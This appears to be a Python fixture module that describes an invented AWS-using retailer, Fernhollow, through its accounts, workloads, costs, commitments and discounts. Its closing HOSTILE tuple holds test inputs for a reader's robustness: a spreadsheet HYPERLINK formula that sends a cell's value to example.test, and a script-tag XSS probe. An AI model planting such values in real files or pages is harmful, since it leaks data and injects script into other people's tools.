"""An invented company that shops on AWS: its accounts, teams, workloads, commitments and discounts.

Fernhollow sells home and garden goods in shops and on the web, and delivers them with vans of its
own. Everything here is made up; amounts are USD a month at public prices.
"""

# ruff: noqa: E501  what an application runs is read as a table

from collections.abc import Mapping
from dataclasses import dataclass
from typing import NamedTuple

# Each seed is another company; the names come round again.
COMPANIES = ("Fernhollow", "Tidewell", "Marrowby", "Quillstone")

INC = "Amazon Web Services, Inc."
EMEA = "Amazon Web Services EMEA SARL"
SELLER = "Halcyon Trace Software LLC"


class Account(NamedTuple):
    """A member account, or the payer where it is the first.

    It is open on the days [opened, closed) of the month, counted from 0; None is to the end.
    """

    name: str
    environment: str
    business_unit: str
    region: str = "us-east-1"
    legal_entity: str = INC
    discounted: bool = True  # under the enterprise discount programme
    opened: int = 0
    closed: int | None = None


ACCOUNTS: Mapping[str, Account] = {
    account.name: account
    for account in (
        Account("management", "shared", "Technology"),
        Account("shop-production", "production", "Retail"),
        Account("payments-production", "production", "Retail"),
        Account("warehouse-production", "production", "Logistics", "us-east-2"),
        Account("delivery-production", "production", "Logistics", "eu-west-1", EMEA),
        Account("data-platform", "production", "Technology"),
        Account("shared-network", "shared", "Technology"),
        Account("shared-security", "shared", "Technology"),
        Account("shop-preproduction", "pre-production", "Retail"),
        Account("delivery-preproduction", "pre-production", "Logistics", "eu-central-1", EMEA),
        Account("shop-development", "development", "Retail"),
        Account("sandbox-innovation", "sandbox", "Technology", discounted=False),
        Account("catalogue-legacy", "pre-production", "Retail", discounted=False, closed=13),
        Account("returns-development", "development", "Logistics", discounted=False, opened=19),
    )
}
PAYER = "management"


class Application(NamedTuple):
    team: str
    cost_center: str
    # The logistics teams spell their tag keys their own way.
    cost_center_key: str = "CostCenter"


APPLICATIONS: Mapping[str, Application] = {
    "governance": Application("Cloud Governance", "CC-1001"),
    "web-shop": Application("Storefront", "CC-2100"),
    "search": Application("Discovery", "CC-2140"),
    "orders": Application("Orders", "CC-2200"),
    "checkout": Application("Payments", "CC-2300"),
    "loyalty": Application("Customer", "CC-2410"),
    "stock": Application("Warehouse", "CC-3100", "cost-center"),
    "picking": Application("Warehouse", "CC-3110", "cost-center"),
    "routing": Application("Delivery", "CC-3200", "cost-center"),
    "fleet": Application("Delivery", "CC-3210", "cost-center"),
    "lakehouse": Application("Data", "CC-4100"),
    "forecasting": Application("Data Science", "CC-4200"),
    "network": Application("Platform", "CC-1100"),
    "security": Application("Security", "CC-1200"),
    "ideas": Application("Innovation", "CC-9900"),
    "catalogue": Application("Storefront", "CC-2100"),
    "returns": Application("Delivery", "CC-3250", "cost-center"),
}


class SavingsPlan(NamedTuple):
    """A promise of so much an hour; `rate` and `upfront` are percentages (of on demand, of it)."""

    owner: str
    offering: str
    rate: int
    upfront: int = 0
    bought: int | None = None  # day of the month, where it was this month


class Reservation(NamedTuple):
    """Reserved capacity for the instances of one workload; percentages of their on-demand price."""

    owner: str
    payment: str
    upfront: int
    recurring: int
    bought: int | None = None


SAVINGS_PLANS: Mapping[str, SavingsPlan] = {
    "compute": SavingsPlan("management", "ComputeSavingsPlans", rate=72),
    "lakehouse": SavingsPlan("data-platform", "ComputeSavingsPlans", 66, upfront=20, bought=11),
}
RESERVATIONS: Mapping[str, Reservation] = {
    "checkout-db": Reservation("payments-production", "Partial Upfront", 32, 33),
    "orders-db": Reservation("shop-production", "All Upfront", 61, 0),
    "session-cache": Reservation("shop-production", "No Upfront", 0, 69),
    "stock-db": Reservation("warehouse-production", "Partial Upfront", 15, 50, bought=4),
}


@dataclass(frozen=True)
class Run:
    """What an application runs: a meter, and what it costs in a month at public prices.

    Meters that cost nothing have a *cost* of 0. `plan` and `reservation` name the commitment that
    covers it; `containers` the kind of container that its instances carry.
    """

    meter: str
    cost: int = 0
    rhythm: str = "steady"
    plan: str | None = None
    reservation: str | None = None
    containers: str | None = None


def _free(*meters: str) -> tuple[Run, ...]:
    return tuple(Run(meter) for meter in meters)


# fmt: off
WORKLOADS: Mapping[str, Mapping[str, tuple[Run, ...]]] = {
    "management": {
        "governance": (Run("storage", 140), Run("cost-requests", 85), Run("config", 160), *_free("trail-free", "key-free")),
    },
    "shop-production": {
        "web-shop": (
            Run("instance", 15_500, "retail", plan="compute"), Run("arm-instance", 8_800, "retail", containers="pod"), Run("cluster", 290),
            Run("volume", 2_600), Run("balancer", 700), Run("balancer-capacity", 1_900, "retail"), Run("nat-bytes", 1_650, "retail"), Run("nat-hours", 130),
            Run("cdn-out", 10_400, "retail"), Run("cdn-requests", 2_100, "retail"), Run("firewall", 900, "retail"), Run("transfer-out", 2_900, "retail"),
            Run("transfer-regional", 1_050, "retail"), Run("cache", 3_200, "retail", reservation="session-cache"), Run("logs", 2_700, "retail"), Run("metrics", 850),
            *_free("transfer-in", "balancer-in", "cdn-origin", "logs-stored", "metric-requests", "dns-internal"),
        ),
        "search": (Run("search", 3_900), Run("function", 950, "retail"), Run("gateway-calls", 700, "retail"), *_free("function-requests", "metric-requests")),
        "orders": (
            Run("database", 7_200, "retail", reservation="orders-db"), Run("database-storage", 1_800), Run("table-reads", 3_400, "retail"), Run("table-storage", 900),
            Run("queue", 380, "retail"), Run("storage", 2_200), Run("storage-writes", 620, "retail"), Run("storage-reads", 410, "retail"), Run("secret", 60),
            *_free("database-backup", "queue-free", "storage-in", "storage-deletes", "table-free", "key-free"),
        ),
        "loyalty": (Run("function", 640, "retail"), Run("model", 1_250, "retail"), Run("topic", 140), *_free("function-requests", "topic-free")),
    },
    "payments-production": {
        "checkout": (
            Run("database", 5_400, "retail", reservation="checkout-db"), Run("arm-instance", 3_100, "retail", containers="task"), Run("fargate", 1_400, "retail"), Run("key-requests", 520, "retail"),
            Run("key", 48), Run("logs", 760, "retail"), Run("table-reads", 680, "retail"), Run("endpoint", 190),
            *_free("database-backup", "trail-free", "metric-requests", "logs-stored"),
        ),
    },
    "warehouse-production": {
        "stock": (Run("database", 4_300, "nightly", reservation="stock-db"), Run("database-storage", 620), Run("instance", 4_900, plan="compute"), Run("volume", 740), Run("snapshot", 260), *_free("transfer-in", "database-backup", "trail-free")),
        "picking": (Run("stream", 940, "weekdays"), Run("function", 480, "weekdays"), Run("workflow", 350, "weekdays"), Run("files", 410), *_free("function-requests", "logs-stored", "queue-free")),
    },
    "delivery-production": {
        "routing": (Run("instance", 3_800, "weekdays", plan="compute"), Run("places", 1_150, "weekdays"), Run("table-reads", 830, "weekdays"), Run("transfer-out", 720, "weekdays"), *_free("transfer-in", "table-free", "metric-requests")),
        "fleet": (Run("function", 560, "weekdays"), Run("queue", 130, "weekdays"), Run("storage", 340), Run("logs", 420), *_free("function-requests", "queue-free", "key-free")),
    },
    "data-platform": {
        "lakehouse": (
            Run("warehouse", 8_600), Run("instance", 5_600, "nightly", plan="lakehouse"), Run("storage", 5_200), Run("archive", 760), Run("etl", 3_900, "nightly"), Run("queries", 2_150, "weekdays"),
            Run("nat-bytes", 930, "nightly"), Run("storage-writes", 540, "nightly"), *_free("transfer-in", "storage-in", "storage-deletes", "trail-free"),
        ),
        "forecasting": (Run("training", 3_300, "nightly"), Run("model", 1_900, "weekdays"), Run("storage", 480), *_free("logs-stored", "metric-requests")),
    },
    "shared-network": {
        "network": (
            Run("transit-hours", 1_050), Run("transit-bytes", 2_300, "retail"), Run("connection", 860), Run("nat-hours", 390), Run("nat-bytes", 1_450, "retail"), Run("endpoint", 520), Run("address", 430), Run("dns", 310, "retail"),
            *_free("dns-internal", "trail-free"),
        ),
    },
    "shared-security": {
        "security": (Run("threats", 2_300), Run("config", 1_150), Run("trail", 610), Run("findings", 540), Run("storage", 820), Run("market", 1_900), *_free("trail-free", "key-free", "storage-in")),
    },
    "shop-preproduction": {
        "web-shop": (Run("instance", 2_400, "weekdays"), Run("database", 1_350, "weekdays"), Run("balancer", 66), Run("volume", 310), *_free("transfer-in", "database-backup", "balancer-in")),
    },
    "delivery-preproduction": {
        "routing": (Run("instance", 980, "weekdays"), Run("places", 90, "weekdays"), Run("volume", 120), *_free("transfer-in", "metric-requests")),
    },
    "shop-development": {
        "web-shop": (Run("arm-instance", 1_100, "weekdays"), Run("builds", 540, "weekdays"), Run("volume", 230), *_free("transfer-in", "trail-free")),
    },
    "sandbox-innovation": {
        "ideas": (Run("instance", 620, "weekdays"), Run("training", 280, "weekdays"), Run("model", 350, "weekdays"), Run("function", 45, "weekdays"), Run("storage", 60), *_free("function-requests", "queue-free", "key-free")),
    },
    "catalogue-legacy": {
        "catalogue": (Run("instance", 840), Run("database", 690), *_free("database-backup", "trail-free")),
    },
    "returns-development": {
        "returns": (Run("arm-instance", 260, "weekdays"), Run("function", 40, "weekdays"), *_free("function-requests", "trail-free")),
    },
}
# fmt: on

# Fewer weekend deliveries, more weekend shoppers: percent of the usual for Monday to Sunday.
WEEK: Mapping[str, tuple[int, ...]] = {
    "steady": (100, 100, 100, 100, 100, 100, 100),
    "retail": (88, 86, 88, 94, 106, 122, 116),
    "weekdays": (128, 131, 130, 129, 126, 30, 26),
    "nightly": (104, 104, 104, 104, 104, 92, 88),
}
# The same by hour of the day, UTC; each adds up to 2,400.
DAY: Mapping[str, tuple[int, ...]] = {
    "steady": (100,) * 24,
    "retail": (
        *(110, 90, 70, 50, 40, 35, 35, 40, 50, 60, 70, 80),
        *(90, 110, 130, 150, 155, 155, 150, 150, 150, 150, 145, 135),
    ),
    "weekdays": (
        *(30, 30, 30, 30, 30, 40, 70, 120, 160, 180, 180, 180),
        *(180, 180, 180, 180, 160, 120, 90, 60, 50, 40, 40, 40),
    ),
    "nightly": (
        *(260, 280, 280, 280, 260, 200, 120, 40, 30, 30, 30, 30),
        *(30, 30, 30, 30, 30, 30, 30, 30, 50, 70, 90, 110),
    ),
}


class Discount(NamedTuple):
    """A discount AWS gives this company: its line item type, key in `discount`, and percent."""

    line_item_type: str
    key: str
    percent: int
    words: str


EDP = Discount("EdpDiscount", "edp_discount", 6, "Enterprise Discount Program Discount")
PRIVATE = Discount("PrivateRateDiscount", "private_rate_discount", 22, "Private Rate Card Discount")
BUNDLED = Discount(
    "BundledDiscount", "bundled_discount", 10, "Bundled discount: AWS WAF with CloudFront"
)
SPP = Discount("SppDiscount", "spp_discount", 3, "Solution Provider Program Discount")
VOLUME = Discount("RiVolumeDiscount", "ri_volume_discount", 5, "Reserved Instance Volume Discount")


def discount(account: str, product: str, entity: str) -> Discount | None:
    """The one discount on usage of *product* in *account*; Marketplace products have none."""
    if not ACCOUNTS[account].discounted or entity != "AWS":
        return None
    match product:
        case "AmazonCloudFront":
            return PRIVATE
        case "awswaf":
            return BUNDLED
        case "AmazonLocationService":
            return SPP
        case "AmazonEC2" | "AmazonRDS" | "AmazonS3" | "AmazonDynamoDB" | "AmazonRedshift":
            return EDP
        case _:
            return None


# Tag values that someone in the sandbox typed, and every reader has to survive.
HOSTILE = (
    '=HYPERLINK("https://example.test/?"&A1,"Refund")',
    "<script>alert(document.title)</script>",
    'comma, "quote"\nand a second line',
    "",
    "Zoë's idea – 試作",
)
